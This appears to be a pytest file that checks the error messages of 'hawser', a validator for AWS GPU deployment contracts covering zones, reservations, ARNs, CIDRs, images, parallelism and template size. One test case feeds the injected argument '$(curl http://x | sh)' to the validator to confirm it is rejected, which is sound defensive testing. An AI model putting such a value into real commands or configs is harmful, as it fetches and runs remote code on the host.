"""Further mistakes that the rules must tell apart, and things that look wrong and are not."""

from __future__ import annotations

import pytest
from inputs import CONTRACT, edited, env_text, load, problems

from hawser.contract.checks.hyperpod import template_bytes
from hawser.contract.draft import Draft
from hawser.contract.load import parse

ARN = "arn:aws:iam::111122223333:role/platform-admin"
B300 = "instance_type: p6-b300.48xlarge"


@pytest.mark.parametrize(
    ("name", "old", "new", "says"),
    [
        ("prod", "zone_id: usw2-az2", "zone_id: usw2-lax1-az1", "not a Local Zone"),
        ("prod", "zone_id: usw2-az2", "zone_id: us-west-2", "a zone id of us-west-2 such as usw2-az1"),
        ("prod", "zone_id: usw2-az2", "zone_id: use1-az2", "use1-az2 belongs to us-east-1"),
        ("prod", "kind: capacity-block", "kind: training-plan", "a training plan serves HyperPod clusters only"),
        ("dev", "kind: training-plan", "kind: odcr", "HyperPod has no field for a reservation"),
        ("prod", "kind: capacity-block", "kind: on-demand", "no reservation_id for the kind on-demand"),
        ("prod", "kind: capacity-block", "kind: on-demand", "no start for the kind on-demand"),
        ("prod", "reservation_id: cr-0123456789abcdef0", "reservation_id: block-1", "cr- and 8 to 17 hex digits"),
        ("prod", '"2027-02-08T11:30:00Z"', '"2027-07-19T11:30:00Z"', "189 days after the start"),
        ("dev", '"2027-01-25T11:30:00Z"', '"2027-07-19T11:30:00Z"', "expected 1 to 182 days;"),
        ("prod", 'version: "1.35"', 'version: "1.29"', "one in standard support on eks: 1.34 (to 2026-12-02), 1.35"),
        (
            "dev",
            'version: "1.35"',
            'version: "1.36"',
            "one in standard support on hyperpod: 1.34 (to 2026-12-02), 1.35 (to 2027-03-27);",
        ),
        ("prod", ARN, "arn:aws:iam::111122223333:role/*", "without wildcards"),
        ("prod", ARN, "arn:aws:sts::111122223333:assumed-role/admin/me", "not a session"),
        ("prod", ARN, "arn:aws-us-gov:iam::111122223333:role/admin", "an ARN of the partition aws"),
        ("prod", ARN, "platform-admin", "write the ARN of a role"),
        ("prod", "region: us-west-2", "region: us-west-3", "write us-west-2"),
        ("prod", "region: us-west-2", "region: mars-1", "choose one of them"),
        ("prod", "10.40.250.0/26", "10.40.250.0/29", "/28 or larger"),
        ("prod", "vpc_cidr: 10.40.0.0/16", "vpc_cidr: 10.0.0.0/8", "a length of /16 to /28"),
        ("prod", "vpc_cidr: 10.40.0.0/16", "vpc_cidr: 172.17.0.0/16", "no part of 172.17.0.0/16"),
        ("prod", "vpc_cidr: 10.40.0.0/16", "vpc_cidr: fd00::/56", "an IPv4 network such as 10.40.0.0/16"),
        ("prod", "vpc_cidr: 10.40.0.0/16", "vpc_cidr: 10.40.0.0", "write address/length"),
        ("dev", "egress: endpoints #", "egress: nat #", "at least one subnet for a NAT gateway"),
        (
            "prod",
            "bucket: hawser-state-111122223333-us-west-2",
            "bucket: hawser-emulator-state",
            "a bucket of the account",
        ),
        ("prod", "bucket: hawser-state-111122223333-us-west-2", "bucket: 192.168.5.4", "not an IP address"),
        ("prod", "bucket: hawser-state-111122223333-us-west-2", "bucket: state--x-s3", "does not keep for itself"),
        ("prod", B300, "instance_type: p5e.48xlarge", "move to us-east-2"),
        ("prod", "[inference-on-call@example.com]", "[on-call]", "an e-mail address"),
        ("prod", "monthly_budget_usd: 400000", "monthly_budget_usd: 0", "1"),
        ("dev", B300, "instance_type: p5e.48xlarge", "hyperpod offers it nowhere"),
        ("prod", "team: inference", "team: inference #\n  Bad;Name: x", "1 to 128 letters"),
        ("prod", "team: inference", "team: inference #\n  Team: ml", "another name than the tag team"),
        ("prod", "team: inference", "team: inference #\n  stack: ml", "which hawser sets"),
    ],
)
def test_the_message_fits_the_mistake(name: str, old: str, new: str, says: str) -> None:
    found = "\n".join(map(str, problems(env=edited(env_text(name), (old, new)), name=name)))
    assert says in found


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("name: vllm/vllm-openai", "name: vllm/vllm-openai:latest", "leave out the registry"),
        ("name: vllm/vllm-openai", "name: docker.io/vllm/vllm-openai", "leave out the registry"),
        ("name: vllm/vllm-openai", "name: vllm/vllm.-openai", "an image name without registry"),
        ("digest: sha256:0123", "digest: kimi-k3 #", "docker buildx imagetools inspect"),
        ("name: vllm #", "name: sglang #", "use vllm"),
        ("reasoning_parser: kimi_k3", "reasoning_parser: deepseek_r1", "write kimi_k3"),
        ("extra_args: [", "extra_args: [-tp, ", "the field serving.tensor_parallel alone"),
        ("extra_args: [", "extra_args: ['$(curl http://x | sh)', ", "installs nothing"),
        ('cuda: "13.0"', 'cuda: "14.0"', "CUDA 13"),
        ("tensor_parallel: 8", "tensor_parallel: 5", "a divisor of the 96 attention heads"),
    ],
)
def test_the_message_fits_the_mistake_in_the_contract(old: str, new: str, says: str) -> None:
    text = CONTRACT.replace("    name: vllm\n", "    name: vllm #\n")
    assert says in "\n".join(map(str, problems(edited(text, (old, new)))))


def test_two_nodes_of_a_smaller_gpu_are_accepted() -> None:
    contract = edited(
        CONTRACT, ("gpus_per_replica: 8", "gpus_per_replica: 16"), ("pipeline_parallel: 1", "pipeline_parallel: 2")
    )
    env = edited(env_text("prod"), (B300, "instance_type: p6-b200.48xlarge"), ("replicas: 2", "replicas: 1"))
    assert load(contract, env).contract.serving.gpus_per_replica == 16


def test_experts_spread_over_data_parallel_ranks_make_room() -> None:
    spread = (
        ("gpus_per_replica: 8", "gpus_per_replica: 16"),
        ("data_parallel: 1", "data_parallel: 2"),
        ("expert_parallel: 1 ", "expert_parallel: 16 "),
    )
    env = edited(env_text("prod"), (B300, "instance_type: p5en.48xlarge"), ("replicas: 2", "replicas: 1"))
    assert load(edited(CONTRACT, *spread), env).environment.replicas == 1
    unspread = problems(edited(CONTRACT, *spread[:2]), env)
    assert [p.path for p in unspread] == ["capacity.k3-block-a.instance_type"]


def test_a_block_that_starts_at_once_still_has_whole_days() -> None:
    env = edited(env_text("prod"), ('start: "2027-01-11T11:30:00Z"', 'start: "2027-01-11T15:04:00Z"'))
    assert load(env=env).environment.capacity["k3-block-a"].count == 2


def test_replicas_need_whole_pools() -> None:
    """Two pools of one node are no place for a replica of two nodes."""
    contract = edited(
        CONTRACT, ("gpus_per_replica: 8", "gpus_per_replica: 16"), ("pipeline_parallel: 1", "pipeline_parallel: 2")
    )
    found = problems(contract, edited(env_text("local-hyperpod"), ("replicas: 2", "replicas: 1")), "local-hyperpod")
    assert [(p.path, p.expected) for p in found] == [
        ("replicas", "at most 0 (k3-plan-a: 0, k3-on-demand: 0) with 16 GPUs per replica")
    ]


def test_a_service_on_the_emulator_is_only_a_note() -> None:
    from hawser.contract.notes import notes

    deployment = load(edited(CONTRACT, ("use: internal", "use: service")), name="local")
    assert any("separate agreement with Moonshot AI" in note.text for note in notes(deployment))


def test_an_end_at_another_hour_is_a_note() -> None:
    from hawser.contract.notes import notes

    deployment = load(env=edited(env_text("prod"), ("2027-02-08T11:30:00Z", "2027-02-08T10:00:00Z")))
    assert [n.path for n in notes(deployment) if "11:30 UTC" in n.text] == ["capacity.k3-block-a.end"]


def template_of(env: str) -> int:
    return template_bytes(Draft("local-hyperpod", None, parse(env.encode(), "env.yaml").root, ()))


def test_the_template_is_as_large_as_terraform_makes_it() -> None:
    """The same number stands in terraform/hyperpod/tests, where the real template of the same pools is measured."""
    assert template_of(env_text("local-hyperpod")) == 2772


def test_system_nodes_are_a_group_of_the_template() -> None:
    """This number stands in terraform/hyperpod/tests too."""
    env = edited(
        env_text("local-hyperpod"), ("  admin_principals:\n", "  system_nodes: hyperpod-group\n  admin_principals:\n")
    )
    assert template_of(env) == 3444
    managed = edited(
        env_text("local-hyperpod"), ("  admin_principals:\n", "  system_nodes: managed\n  admin_principals:\n")
    )
    assert template_of(managed) == 2772


def test_a_template_grows_by_what_is_written() -> None:
    env = env_text("local-hyperpod")
    grown = (
        ("  k3-on-demand:", "  k3-on-demand-2:", 2 * 2),
        ("    count: 1\n    zone_id: usw2-az1", "    count: 1000\n    zone_id: usw2-az1", 3),
        ("training-plan/kimi-k3-example", "training-plan/kimi-k3-example-2", 2),
        ("name: hawser-local-hyperpod", "name: hawser-local-hyperpod-2", 2 * (3 + 2 * 2)),
        ("team: inference", 'team: inference\n  a: "ü"', 22 + 1 + 2),
        ("    usw2-az2: 10.43.16.0/20", "    usw2-az2: 10.43.16.0/20\n    usw2-az3: 10.43.32.0/20", 27),
    )
    for old, new, more in grown:
        assert template_of(edited(env, (old, new))) == 2772 + more, new


@pytest.mark.parametrize(("spare", "fits"), [(52, True), (53, False)])
def test_the_last_template_that_fits_is_accepted(spare: int, fits: bool) -> None:
    pool = "{instance_type: p6-b300.48xlarge, kind: on-demand, count: 1, zone_id: usw2-az1}"
    pools = "".join(f"  spare-{number:02}: {pool}\n" for number in range(spare))
    env = edited(env_text("local-hyperpod"), ("\nnetwork:\n", f"{pools}\nnetwork:\n"))
    assert (template_of(env) <= 51_200) is fits
    assert [problem.path for problem in problems(env=env, name="local-hyperpod")] == ([] if fits else ["capacity"])
